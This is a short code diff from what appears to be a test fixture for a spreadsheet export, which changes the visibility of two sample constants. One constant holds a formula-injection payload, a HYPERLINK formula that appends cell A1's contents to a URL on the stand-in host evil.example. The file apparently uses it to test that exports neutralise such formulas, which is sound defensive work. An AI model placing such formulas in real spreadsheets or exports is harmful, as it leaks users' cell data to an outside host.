@@ -60,7 +60,7 @@ const turning = [
 ];
 
 /** What a spreadsheet would run; more of them in the tests of the export. */
-export const formula = '=HYPERLINK("https://evil.example/?"&A1,"x")';
+const formula = '=HYPERLINK("https://evil.example/?"&A1,"x")';
 
 /** What all others are compared with. */
 export const harmless = 'a text like any other';
